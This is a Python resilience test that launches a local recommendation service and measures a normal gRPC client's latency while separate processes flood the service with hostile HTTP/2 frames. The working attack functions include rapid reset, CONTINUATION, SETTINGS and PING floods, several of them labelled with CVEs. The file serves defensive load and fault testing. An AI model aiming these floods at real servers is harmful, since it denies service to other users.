"""Hostile HTTP/2 against a service process, and what a good client beside it sees:
`python -m tests.faults.wire --streams 200000`.

Each attack speaks frames by itself, from a process of its own, and opens another connection whenever the
server ends one. The good client asks for the list of models, one call after the other: alone, then beside
each attack.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import socket
import statistics
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass
from pathlib import Path

import grpc
import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from medmesh.common.v1 import catalog_pb2, catalog_pb2_grpc
from tests.faults.deployment import until

ROOT = Path(__file__).resolve().parents[2]
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_PATH = "/medmesh.common.v1.ModelCatalogService/ListModels"
_HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", _PATH),
    (":authority", "service"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]
_EMPTY_MESSAGE = bytes(5)
_WINDOW = SettingsFrame.INITIAL_WINDOW_SIZE
_CALL_S = 10.0
_START_S = 60.0
_AT_ONCE = 64
"""Streams that an attack sends before it looks what the server says."""


class Connection:
    """A connection whose frames nobody checks; OSError once the server has ended it."""

    def __init__(self, address: str, window: int = 65_535) -> None:
        host, _, port = address.rpartition(":")
        self._socket = socket.create_connection((host, int(port)), timeout=_CALL_S)
        self._next = 1
        self.header_block = hpack.Encoder().encode(_HEADERS, huffman=False)
        self._socket.sendall(_PREFACE + SettingsFrame(0, settings={_WINDOW: window}).serialize())

    def stream(self) -> int:
        """The number of another stream."""
        self._next += 2
        return self._next - 2

    def headers(self, stream: int, *flags: str, block: bytes | None = None) -> Frame:
        """What opens a stream."""
        return HeadersFrame(stream, self.header_block if block is None else block, flags=flags)

    def send(self, *frames: Frame) -> None:
        """Sends them in one piece."""
        self._socket.sendall(b"".join(frame.serialize() for frame in frames))

    def drop_answers(self) -> None:
        """Reads what has come, without waiting for more. ConnectionError: the server has ended it."""
        self._socket.setblocking(False)
        try:
            while data := self._socket.recv(1 << 16):
                del data
            raise ConnectionResetError
        except BlockingIOError:
            pass
        finally:
            self._socket.settimeout(_CALL_S)

    def close(self) -> None:
        self._socket.close()


def rapid_reset(to: Connection) -> None:
    """Requests that are taken back at once (CVE-2023-44487)."""
    stream = to.stream()
    to.send(to.headers(stream, "END_HEADERS"), RstStreamFrame(stream, error_code=8))


def header_flood(to: Connection) -> None:
    """Requests with 8 KiB of headers that the server is asked to remember."""
    block = hpack.Encoder().encode([*_HEADERS, ("x-filler", "x" * 8000)], huffman=False)
    to.send(to.headers(to.stream(), "END_HEADERS", "END_STREAM", block=block))


def continuation_flood(to: Connection) -> None:
    """Headers that never end (CVE-2024-27316); a frame of them counts as a stream."""
    stream = to.stream()
    filler = hpack.Encoder().encode([("x-filler", "x" * 1000)], huffman=False)
    to.send(to.headers(stream), *(ContinuationFrame(stream, filler) for _ in range(16)))


def slow_read(to: Connection) -> None:
    """Requests whose answers nobody takes: the window stays at nothing."""
    stream = to.stream()
    to.send(to.headers(stream, "END_HEADERS"), DataFrame(stream, _EMPTY_MESSAGE, flags=["END_STREAM"]))


def window_games(to: Connection) -> None:
    """A window that opens by one byte at a time and is closed again, over and over."""
    stream = to.stream()
    to.send(
        to.headers(stream, "END_HEADERS"),
        DataFrame(stream, _EMPTY_MESSAGE, flags=["END_STREAM"]),
        *(WindowUpdateFrame(stream, window_increment=1) for _ in range(8)),
        SettingsFrame(0, settings={_WINDOW: 0}),
        SettingsFrame(0, settings={_WINDOW: 1}),
    )


def settings_flood(to: Connection) -> None:
    """Settings, each to be acknowledged (CVE-2019-9515)."""
    to.send(*(SettingsFrame(0, settings={_WINDOW: 65_535}) for _ in range(8)))


def ping_flood(to: Connection) -> None:
    """Pings, each to be answered (CVE-2019-9512); many, so that a server reads thousands in one piece."""
    to.send(*[PingFrame(0, b"medmesh!")] * 128)


ATTACKS: dict[str, Callable[[Connection], None]] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        header_flood,
        continuation_flood,
        slow_read,
        window_games,
        settings_flood,
        ping_flood,
    )
}
_WINDOWS = {"slow_read": 0, "window_games": 0}


@dataclass(frozen=True)
class Sent:
    """What an attacker did."""

    times: int
    connections: int
    processor_s: float
    """What it cost the attacker."""

    def __str__(self) -> str:
        return f"{self.times} sent over {self.connections} connections"


def attack(address: str, name: str, count: int) -> Sent:
    """Does one attack `count` times."""
    sent = connections = 0
    began = time.process_time()
    while sent < count:
        with contextlib.suppress(OSError), contextlib.closing(
            Connection(address, _WINDOWS.get(name, 65_535))
        ) as to:  # fmt: skip
            connections += 1
            while sent < count:
                for _ in range(_AT_ONCE):
                    ATTACKS[name](to)
                    sent += 1
                to.drop_answers()
    return Sent(sent, connections, time.process_time() - began)


@dataclass(frozen=True)
class Seen:
    """What a good client saw."""

    times_ms: list[float]
    failed: int

    def quantile(self, share: float) -> float:
        """Of the times of its calls, in ms."""
        return statistics.quantiles(self.times_ms, n=100, method="inclusive")[round(share * 100) - 1]


def good_calls(address: str, while_holds: Callable[[int], bool]) -> Seen:
    """Calls one after the other for as long as `while_holds` of how many there were."""
    times, failed = [], 0
    with grpc.insecure_channel(address, options=[("grpc.use_local_subchannel_pool", 1)]) as channel:
        stub = catalog_pb2_grpc.ModelCatalogServiceStub(channel)
        while while_holds(len(times) + failed):
            began = time.perf_counter()
            try:
                stub.ListModels(catalog_pb2.ListModelsRequest(), timeout=_CALL_S)
                times.append((time.perf_counter() - began) * 1000)
            except grpc.RpcError:
                failed += 1
    return Seen(times, failed)


def beside(address: str, name: str, count: int, least_calls: int = 50) -> tuple[Seen, Sent]:
    """What a good client sees beside an attack, and what the attacker did."""
    command = [sys.executable, "-m", "tests.faults.wire", "--attack", name, "--on", address]
    with subprocess.Popen(
        [*command, "--streams", str(count)], cwd=ROOT, stdout=subprocess.PIPE, text=True
    ) as attacker:
        assert attacker.stdout is not None
        attacker.stdout.readline()  # it begins
        seen = good_calls(address, lambda calls: attacker.poll() is None or calls < least_calls)
        sent = Sent(**json.loads(attacker.stdout.read()))
    return seen, sent


@contextlib.contextmanager
def service(folder: Path) -> Iterator[tuple[str, subprocess.Popen[bytes]]]:
    """A process of the recommendation service without a Triton, its log in `folder`: its address, and it."""
    own = {"MEDMESH_LISTEN": "127.0.0.1:0", "MEDMESH_METRICS_LISTEN": "", "MEDMESH_TRITON_URL": "127.0.0.1:9"}
    log = folder / "service.log"
    with log.open("wb") as written, subprocess.Popen(
        [sys.executable, "-m", "services.recommendation"], env=os.environ | own, cwd=ROOT, stderr=written
    ) as process:  # fmt: skip
        try:
            assert until(lambda: b'"serving"' in log.read_bytes(), _START_S), log.read_text()
            lines = map(json.loads, log.read_text().splitlines())
            yield next(line["address"] for line in lines if line["message"] == "serving"), process
        finally:
            process.terminate()
            process.wait(_START_S)


def processor_s(pid: int) -> float:
    """Processor time that a process has taken."""
    times = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[11:13]
    return sum(map(int, times)) / os.sysconf("SC_CLK_TCK")


def resident_mb(pid: int) -> float:
    """Memory of a process that is in the machine's, in MB."""
    pages = int(Path(f"/proc/{pid}/statm").read_text().split()[1])
    return pages * os.sysconf("SC_PAGE_SIZE") / 1e6


def main() -> None:
    """Reads the command line, and prints a row for each attack."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--streams", type=int, default=200_000, help="of all attacks together")
    parser.add_argument("--attack", choices=ATTACKS, help="this one alone, on a service that runs")
    parser.add_argument("--on", metavar="HOST:PORT")
    given = parser.parse_args()
    if given.on:
        print("begins", flush=True)
        print(json.dumps(asdict(attack(given.on, given.attack, given.streams))))
        return
    with tempfile.TemporaryDirectory() as folder, service(Path(folder)) as (address, process):
        good_calls(address, lambda calls: calls < 100)
        alone = good_calls(address, lambda calls: calls < 1000)
        print(f"alone: p50 {alone.quantile(0.5):.1f} ms, p99 {alone.quantile(0.99):.1f} ms")
        for name in ATTACKS:
            before_s = processor_s(process.pid)
            seen, sent = beside(address, name, given.streams // len(ATTACKS))
            print(
                f"{name}: {sent}; {len(seen.times_ms)} good calls, {seen.failed} failed, p50 "
                f"{seen.quantile(0.5):.1f} ms, p99 {seen.quantile(0.99):.1f} ms, "
                f"{seen.quantile(0.99) / alone.quantile(0.99):.1f} times that of alone; processor: attacker "
                f"{sent.processor_s:.1f} s, service {processor_s(process.pid) - before_s:.1f} s; "
                f"{resident_mb(process.pid):.0f} MB",
                flush=True,
            )


if __name__ == "__main__":
    main()
